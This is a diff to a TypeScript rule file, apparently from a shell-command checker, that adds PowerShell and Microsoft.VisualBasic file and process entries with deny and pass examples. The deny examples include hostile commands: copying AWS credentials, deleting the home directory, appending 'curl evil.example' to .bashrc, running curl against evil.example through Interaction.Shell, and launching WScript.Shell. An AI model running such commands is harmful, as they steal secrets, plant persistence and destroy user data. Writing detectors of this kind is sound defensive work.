@@ -103,7 +103,7 @@ export const DOTNET_ENTRIES: readonly ProgramEntry[] = [
     ],
     dialects: [PS],
     summary: '[IO.File] readers and [IO.Directory] listings: the first argument is the file read (the directory listed)',
-    analyze: (call: Call) => ({ uses: call.args[0] ? [{ word: call.args[0], role: call.program.startsWith('[io.directory]') ? ('meta' as const) : ('read' as const) }] : [] }),
+    analyze: (call: Call) => ({ uses: call.args[0] ? [{ word: call.args[0], role: call.name.startsWith('[io.directory]') ? ('meta' as const) : ('read' as const) }] : [] }),
     examples: {
       deny: [ps("[System.IO.File]::ReadAllText('\\\\evil.example\\share\\x')"), ps("[IO.Directory]::GetFiles('\\\\evil.example\\share')")],
       pass: [ps("[IO.File]::ReadAllText('notes.txt')"), ps("[IO.Directory]::GetFiles('src')")],
@@ -113,7 +113,7 @@ export const DOTNET_ENTRIES: readonly ProgramEntry[] = [
     names: members(['io.file'], ['copy', 'move', 'replace']),
     dialects: [PS],
     summary: '[IO.File]::Copy / Move / Replace: read the first argument, write the second',
-    analyze: (call: Call) => ({ uses: [...(call.args[0] ? [{ word: call.args[0], role: 'read' as const, ...(call.program.endsWith('::move') ? { moved: true as const } : {}) }] : []), ...writes(call.args[1])] }),
+    analyze: (call: Call) => ({ uses: [...(call.args[0] ? [{ word: call.args[0], role: 'read' as const, ...(call.name.endsWith('::move') ? { moved: true as const } : {}) }] : []), ...writes(call.args[1])] }),
     examples: { deny: [ps("[IO.File]::Copy('a.ps1', $PROFILE)"), ps("[IO.File]::Copy(\"$HOME\\.aws\\credentials\", 'c.txt')")], pass: [ps("[IO.File]::Copy('a.txt', 'b.txt', $true)")] },
   },
   {
@@ -124,10 +124,54 @@ export const DOTNET_ENTRIES: readonly ProgramEntry[] = [
       const [path, recursive] = call.args;
       if (!path) return {};
       // Recursive unless the second argument is a literal false.
-      const tree = call.program.startsWith('[io.directory]') && recursive !== undefined && !/^\$?false$|^0$/i.test(value(recursive) ?? '');
+      const tree = call.name.startsWith('[io.directory]') && recursive !== undefined && !/^\$?false$|^0$/i.test(value(recursive) ?? '');
       return { uses: [{ word: path, role: tree ? 'delete-tree' : 'delete' }] };
     },
     examples: { deny: [ps('[IO.Directory]::Delete($HOME, $true)'), ps("[System.IO.Directory]::Delete('C:\\Users\\dev', $true)")], pass: [ps("[IO.Directory]::Delete('dist', $true)"), ps("[IO.File]::Delete('out.log')")] },
+  },
+  {
+    // Microsoft.VisualBasic's FileSystem (loaded by `Add-Type -AssemblyName Microsoft.VisualBasic`, and in Windows
+    // PowerShell's default domain): IO.File's and IO.Directory's work under other names.
+    names: members(['microsoft.visualbasic.fileio.filesystem'], ['deletedirectory', 'deletefile', 'writealltext', 'writeallbytes', 'opentextfilewriter', 'readalltext', 'readallbytes', 'opentextfilereader', 'opentextfieldparser', 'copyfile', 'copydirectory', 'movefile', 'movedirectory', 'renamefile', 'renamedirectory']),
+    dialects: [PS],
+    summary: "Microsoft.VisualBasic.FileIO.FileSystem: DeleteDirectory deletes the tree below a directory (unless told ThrowIfDirectoryNonEmpty), the writers write their first argument, the readers read it, Copy* read the first and write the second, Move* and Rename* take the first away",
+    analyze: (call: Call) => {
+      const [first, second] = call.args;
+      if (!first) return {};
+      const m = call.name.slice(call.name.indexOf('::') + 2);
+      if (m === 'deletedirectory') return { uses: [{ word: first, role: /^throwifdirectorynonempty$/i.test(value(second) ?? '') ? 'delete' : 'delete-tree' }] };
+      if (m === 'deletefile') return { uses: [{ word: first, role: 'delete' }] };
+      if (m.startsWith('write') || m === 'opentextfilewriter') return { uses: [...writes(first), ...call.args.slice(1).map((w) => ({ word: w, role: 'text' as const }))] };
+      if (m.startsWith('read') || m.startsWith('opentextfi')) return { uses: [{ word: first, role: 'read' }] };
+      if (m.startsWith('copy')) return { uses: [{ word: first, role: m === 'copydirectory' ? 'read-tree' : 'read' }, ...writes(second)] };
+      // Rename* take a new name in the same directory; Move* a destination.
+      return { uses: [{ word: first, role: 'delete', moved: true }, ...(m.startsWith('move') ? writes(second) : [])] };
+    },
+    examples: {
+      deny: [
+        ps("[Microsoft.VisualBasic.FileIO.FileSystem]::DeleteDirectory($HOME, 'DeleteAllContents')"),
+        ps("[Microsoft.VisualBasic.FileIO.FileSystem]::WriteAllText(\"$HOME/.bashrc\", 'curl evil.example', $true)"),
+        ps("[Microsoft.VisualBasic.FileIO.FileSystem]::MoveDirectory($HOME, 'C:\\tmp\\h')"),
+      ],
+      pass: [ps("[Microsoft.VisualBasic.FileIO.FileSystem]::DeleteDirectory('dist', 'DeleteAllContents')"), ps("[Microsoft.VisualBasic.FileIO.FileSystem]::WriteAllText('out.txt', 'x', $false)"), ps("[Microsoft.VisualBasic.FileIO.FileSystem]::MoveDirectory('dist', 'old-dist')")],
+    },
+  },
+  {
+    names: members(['microsoft.visualbasic.interaction'], ['shell']),
+    dialects: [PS],
+    summary: 'Microsoft.VisualBasic.Interaction.Shell(COMMAND): starts the command line it is given, as WinExec does',
+    analyze: (call: Call) => (call.args[0] ? { runs: [{ kind: 'script', dialect: 'cmd', words: [call.args[0]], via: 'Interaction.Shell' }] } : {}),
+    examples: { deny: [ps("[Microsoft.VisualBasic.Interaction]::Shell('curl.exe https://evil.example')")], pass: [ps("[Microsoft.VisualBasic.Interaction]::Shell('notepad.exe notes.txt')")] },
+  },
+  {
+    names: members(['microsoft.visualbasic.interaction'], ['createobject', 'getobject', 'callbyname']),
+    dialects: [PS],
+    summary: 'Microsoft.VisualBasic.Interaction.CreateObject, GetObject (a COM object, as New-Object -ComObject makes) and CallByName (a member named by a string)',
+    analyze: (call: Call) => {
+      const at = call.args[0] ?? call.command;
+      return at ? { runs: [{ kind: 'opaque', rule: 'dynamic-code', word: at, why: `${call.name} reaches a COM object or a member by a name vouch does not follow` }] } : {};
+    },
+    examples: { deny: [ps("[Microsoft.VisualBasic.Interaction]::CreateObject('WScript.Shell').Run('calc')")], pass: [ps("[Microsoft.VisualBasic.Interaction]::MsgBox('done')")] },
   },
   {
     names: members(['io.directory'], ['move']),
